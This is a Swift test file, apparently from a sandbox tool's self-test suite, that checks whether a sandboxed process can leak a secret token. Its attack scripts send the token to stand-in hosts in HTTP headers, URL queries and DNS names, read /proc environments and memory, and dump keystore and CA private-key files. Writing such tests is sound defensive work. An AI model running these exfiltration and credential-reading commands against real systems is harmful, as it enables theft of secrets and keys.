import Glibc

/// The zero-token secrets attacks: a sandbox whose `$ST_TOKEN` is a placeholder for a keystore
/// entry bound to bound.test tries to get the real value out (to the lab's stand-ins, in a DNS
/// name, from memory, from the keystore). The verdict: the real value never appears at a
/// stand-in or in what the sandbox read. Each control is the same script where the guard is
/// absent: a sandbox on the lab's network given the value itself in its environment. The
/// exfiltration and memory controls first prove the swap itself works: the placeholder sent to
/// bound.test, as the secret's `inject` puts it, arrives at bound.test's own HTTPS stand-in as
/// the real value (so "never swapped elsewhere" is never judged on a swap that is broken).
enum SecretAttacks {
    static var all: [Attack] { [unboundDomain, siblingURL, dnsName, processMemory, keystoreAndCAKey] }

    typealias Lab = NetworkLab
    static let tool = NetworkAttacks.tool
    static let sandbox = "selftest-sec"
    static let openSandbox = "selftest-sec-host"
    static let entry = "st-token"

    /// The secret's real value (lowercase, so DNS case folding keeps it), stored once in the
    /// temporary root's keystore.
    static func value(_ environment: SelftestEnvironment) throws(SelftestFailure) -> String {
        try environment.fixture("secret-value") { (environment) throws(SelftestFailure) -> String in
            let lab = try Lab.get(environment)
            let value = "secretvalue" + environment.marker("x").dropFirst(2).lowercased()
            let stored = try lab.host("printf %s \(Shell.quote(value)) | \(Shell.quote(environment.cordon)) secrets set \(entry) --stdin")
            guard stored.status == 0 else { throw SelftestFailure("cannot store the secret (cordon secrets set): \(stored.summary)") }
            return value
        }
    }

    static let pins = "{allowed.test: 127.0.0.1, bound.test: 127.0.0.1, other.bound.test: \(Lab.unlistedName)}"

    /// The sandbox under attack: `$ST_TOKEN` is the placeholder of the entry bound to bound.test,
    /// whose HTTPS stand-in (`boundServer`) its proxy trusts.
    static func start(_ environment: SelftestEnvironment) throws(SelftestFailure) -> String {
        let lab = try Lab.get(environment)
        _ = try value(environment)
        let server = try boundServer(environment)
        try lab.sandbox(
            sandbox,
            """
            name: \(sandbox)
            egress:
              domains: ["allowed.test:8080", "bound.test", "bound.test:\(boundPort)", "*.tun.test"]
              allow_private: ["127.0.0.0/8"]
              resolve: \(pins)
              upstream_ca: [\(server.ca)]
            secrets:
              - {name: \(entry), env: ST_TOKEN, domains: [bound.test]}

            """)
        return sandbox
    }

    /// The control's sandbox: on the lab's network, holding the value itself.
    static func startOpen(_ environment: SelftestEnvironment) throws(SelftestFailure) -> String {
        let lab = try Lab.get(environment)
        let secret = try value(environment)
        try lab.sandbox(openSandbox, "name: \(openSandbox)\nnetwork: host\nenv: {ST_TOKEN: \(secret)}\n")
        return openSandbox
    }

    // MARK: - The bound domain

    /// bound.test's own server in the lab (127.0.0.1:`boundPort`): HTTPS with a certificate from
    /// a CA made for the run (`ca`, which the secret sandbox's proxy trusts), appending every
    /// request head it receives to `log`.
    struct BoundServer {
        let ca: String
        let log: String
    }

    static let boundPort = 8444

    static let boundServerProgram = #"""
        import socket, ssl, sys, threading
        cert, key, port, log, ready = sys.argv[1:6]
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        ctx.load_cert_chain(cert, key)
        lock = threading.Lock()
        def record(data):
            with lock, open(log, "ab") as f:
                f.write(data + b"\n")
        def serve(conn):
            try:
                conn.settimeout(5)
                t = ctx.wrap_socket(conn, server_side=True)
                data = b""
                while b"\r\n\r\n" not in data and len(data) < 65536:
                    chunk = t.recv(4096)
                    if not chunk:
                        break
                    data += chunk
                record(data)
                t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
                t.close()
            except Exception as e:
                record(("error: %s" % e).encode())
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", int(port)))
        s.listen(16)
        open(ready, "w").write("ready")
        while True:
            c, _ = s.accept()
            threading.Thread(target=serve, args=(c,), daemon=True).start()
        """#

    /// Makes the CA and bound.test's certificate (openssl) and starts the server in the lab, once.
    static func boundServer(_ environment: SelftestEnvironment) throws(SelftestFailure) -> BoundServer {
        try environment.fixture("secret-bound-server") { (environment) throws(SelftestFailure) -> BoundServer in
            let lab = try Lab.get(environment)
            let directory = environment.hostDirectory + "/bound-tls"
            let program = directory + "/server.py"
            try environment.write(program, boundServerProgram)
            let made = try environment.host(
                """
                set -e; cd \(Shell.quote(directory))
                openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -subj '/CN=cordon selftest bound CA' -keyout ca-key.pem -out ca.pem 2>&1
                openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -subj /CN=bound.test -keyout key.pem -out req.pem 2>&1
                printf 'subjectAltName=DNS:bound.test\\n' > ext
                openssl x509 -req -in req.pem -CA ca.pem -CAkey ca-key.pem -CAcreateserial -days 2 -extfile ext -out cert.pem 2>&1
                : > received.log
                """)
            guard made.status == 0 else {
                throw SelftestFailure("cannot make bound.test's certificate with openssl: \(made.summary) \(made.stdout.suffix(200))")
            }
            let files = ["cert.pem", "key.pem"].map { Shell.quote(directory + "/" + $0) }.joined(separator: " ")
            let ready = directory + "/ready"
            let started = try environment.host(
                "\(lab.networkEntry) python3 \(Shell.quote(program)) \(files) \(boundPort) \(Shell.quote(directory + "/received.log")) \(Shell.quote(ready)) </dev/null >\(Shell.quote(directory + "/err")) 2>&1 & echo $!"
            )
            guard let pid = Int32(started.stdout.trimming("\n")) else { throw SelftestFailure("cannot start bound.test's server: \(started.summary)") }
            environment.atCleanup { _ = kill(pid, SIGKILL) }
            for _ in 0..<50 where environment.read(ready)?.isEmpty != false { usleep(100_000) }
            guard environment.read(ready)?.isEmpty == false else {
                throw SelftestFailure("bound.test's server did not start: \(environment.read(directory + "/err") ?? "")")
            }
            return BoundServer(ca: directory + "/ca.pem", log: directory + "/received.log")
        }
    }

    /// The swap itself, once: the secret sandbox sends its placeholder to bound.test (in
    /// `Authorization`, where the default `inject` puts the value); succeeded when bound.test's
    /// server received the real value there.
    static func boundSwap(_ environment: SelftestEnvironment) throws(SelftestFailure) -> Observation {
        try environment.fixture("secret-bound-swap") { (environment) throws(SelftestFailure) -> Observation in
            let lab = try Lab.get(environment)
            let secret = try value(environment)
            let name = try start(environment)
            let server = try boundServer(environment)
            let output = try lab.exec(name, "curl -sS -m10 -H \"Authorization: Bearer $ST_TOKEN\" https://bound.test:\(boundPort)/swap 2>&1")
            let received = environment.read(server.log) ?? ""
            if received.contains("Bearer " + secret) {
                return .succeeded("bound.test's server received the real value in Authorization")
            }
            return .failed("bound.test's server did not receive the real value (it logged \(received.count) bytes; \(output.summary))")
        }
    }

    /// A control that first requires the swap on bound.test to work, then runs `body`.
    static func afterSwap(_ environment: SelftestEnvironment, _ body: () throws(SelftestFailure) -> Observation) throws(SelftestFailure)
        -> Observation
    {
        let swap = try boundSwap(environment)
        guard swap.succeeded else { return .failed("the swap on the bound domain does not work: \(swap.evidence)") }
        let seen = try body()
        return Observation(succeeded: seen.succeeded, evidence: swap.evidence + "; " + seen.evidence)
    }

    static let swapControl = "the placeholder sent to bound.test arrives at its server as the real value, and "

    /// An attack whose script runs in the secret's sandbox and, as the control, in the sandbox
    /// holding the value; it succeeds when the value reaches the far side anywhere.
    static func exfiltration(_ id: String, _ description: String, defence: String, script: String) -> Attack {
        Attack(
            id: id, category: .secrets, description: description, defence: defence,
            control: swapControl + "a sandbox on the lab's network holding the value itself sends it to the stand-in",
            runControl: { (environment) throws(SelftestFailure) in
                try afterSwap(environment) { () throws(SelftestFailure) in
                    let lab = try Lab.get(environment)
                    let secret = try value(environment)
                    let name = try startOpen(environment)
                    let since = lab.mark
                    return lab.observe(secret, "control", try lab.exec(name, script), since: since) { _ in true }
                }
            },
            runAttack: { (environment) throws(SelftestFailure) in
                let lab = try Lab.get(environment)
                let secret = try value(environment)
                let name = try start(environment)
                let since = lab.mark
                return lab.observe(secret, "sandbox", try lab.exec(name, script), since: since) { _ in true }
            })
    }

    static let unboundDomain = exfiltration(
        "secrets.unbound-domain", "send the placeholder to an allowed domain the secret is not bound to (headers, URL)",
        defence: "the proxy refuses a request carrying a placeholder to any domain but the secret's; the value is put only into bound requests",
        script: """
            curl -s -m5 -H "Authorization: Bearer $ST_TOKEN" -H "X-Api-Key: $ST_TOKEN" "http://allowed.test:8080/?t=$ST_TOKEN"
            curl -s -m5 --noproxy '*' -H "Authorization: Bearer $ST_TOKEN" "http://allowed.test:8080/?t=$ST_TOKEN"
            curl -s -m5 -H "Authorization: Basic $(printf 'u:%s' "$ST_TOKEN" | base64 -w0)" http://allowed.test:8080/basic
            \(tool) http 127.0.0.1 8080 "/?t=$ST_TOKEN" allowed.test "Authorization: Bearer $ST_TOKEN"
            """)

    static let siblingURL = exfiltration(
        "secrets.sibling-url", "put the placeholder in a URL query to the bound domain's unlisted sibling and to the bound domain",
        defence: "a placeholder in a URL is refused; the value goes only where inject puts it, for the bound domains",
        script: """
            curl -s -m5 "http://other.bound.test:8080/?key=$ST_TOKEN"
            curl -s -m5 --noproxy '*' "http://other.bound.test:8080/?key=$ST_TOKEN"
            curl -s -m5 "http://bound.test/?key=$ST_TOKEN"; curl -s -m5 --noproxy '*' "http://bound.test/?key=$ST_TOKEN"
            \(tool) http \(Lab.unlistedName) 8080 "/?key=$ST_TOKEN" other.bound.test
            """)

    static let dnsName = exfiltration(
        "secrets.dns-name", "put the placeholder in a DNS name (under an allowed wildcard and an allowed name)",
        defence: "the DNS stub refuses a name carrying a placeholder; the value is never in the sandbox to send",
        script: """
            DNS_EXTRA=127.0.0.1 \(tool) dns "$ST_TOKEN.tun.test" 1 16
            DNS_EXTRA=127.0.0.1 \(tool) dns "$(echo "$ST_TOKEN" | cut -c1-30).tun.test" 1
            getent hosts "$ST_TOKEN.allowed.test"; curl -s -m5 "http://$ST_TOKEN.tun.test/"
            """)

    // MARK: - Memory, keystore, CA

    static let processMemory = Attack(
        id: "secrets.process-memory", category: .secrets,
        description: "read the value from another process's environment and memory (/proc/PID/environ, /proc/PID/mem, the supervisor's too)",
        defence: "pid namespace: neither the supervisor nor any host process is visible; the sandbox holds only the placeholder",
        control: swapControl + "on the host, a process holding the value in its environment shows it in /proc/PID/environ",
        runControl: { (environment) throws(SelftestFailure) in
            try afterSwap(environment) { () throws(SelftestFailure) in
                let secret = try value(environment)
                let output = try environment.host(
                    "ST_TOKEN=\(Shell.quote(secret)) sleep 30 & p=$!; sleep 0.2; tr '\\0' '\\n' < /proc/$p/environ; kill $p")
                return Observation.markerSeen(secret, in: output, what: "host /proc/PID/environ")
            }
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let lab = try Lab.get(environment)
            let secret = try value(environment)
            let name = try start(environment)
            let output = try lab.exec(name, "\(tool) memory; env", timeout: 120)
            return Observation.markerSeen(secret, in: output, what: "sandbox /proc walk")
        })

    /// What the keystore's master key and the CA's private key look like when read out: the
    /// master key in base64 and a line of the CA key's PEM body.
    static func keyMarkers(_ environment: SelftestEnvironment) throws(SelftestFailure) -> [String] {
        let master = try environment.host("base64 -w0 \(Shell.quote(environment.cordonState + "/secrets/master.key"))").stdout
        let caKey = environment.read(environment.cordonState + "/ca/ca-key.pem") ?? ""
        let line = caKey.split(separator: "\n").first { !$0.hasPrefix("-----") && $0.count >= 40 }.map(String.init) ?? ""
        guard master.count >= 40, !line.isEmpty else {
            throw SelftestFailure("the keystore's master key or the CA key is missing after a secret sandbox started")
        }
        return [master, line]
    }

    static func keyScript(_ environment: SelftestEnvironment) -> String {
        let state = Shell.quote(environment.cordonState)
        return """
            for f in \(state)/secrets/master.key \(state)/secrets/keystore.json \(state)/ca/ca-key.pem; do
              base64 -w0 "$f"; echo; cat "$f"; echo
              for p in /proc/[0-9]*; do base64 -w0 "$p/root$f"; echo; done
            done 2>/dev/null
            timeout 20 find / -xdev \\( -name master.key -o -name 'ca-key.pem' -o -name keystore.json \\) 2>/dev/null | while read -r f; do base64 -w0 "$f"; echo; cat "$f"; done
            echo searched
            """
    }

    static func keyObservation(_ markers: [String], _ what: String, _ output: ProcessOutput) -> Observation {
        let seen = markers.filter { output.combined.contains($0) }
        return seen.isEmpty
            ? .failed("\(what): neither the master key nor the CA key came back (\(output.summary))")
            : .succeeded("\(what): \(seen.count == 2 ? "the master key and the CA key" : seen[0] == markers[0] ? "the master key" : "the CA key") came back")
    }

    static let keystoreAndCAKey = Attack(
        id: "secrets.keystore-ca-key", category: .secrets,
        description: "read the keystore (master.key, keystore.json) and the CA's private key by their host paths and by search",
        defence: "mount namespace: cordon's state directory is never mounted into a sandbox",
        control: "on the host, the same reads return both keys",
        runControl: { (environment) throws(SelftestFailure) in
            _ = try start(environment)
            return keyObservation(try keyMarkers(environment), "host read", try environment.host(keyScript(environment)))
        },
        runAttack: { (environment) throws(SelftestFailure) in
            let lab = try Lab.get(environment)
            let name = try start(environment)
            return keyObservation(try keyMarkers(environment), "sandbox read", try lab.exec(name, keyScript(environment), timeout: 120))
        })
}
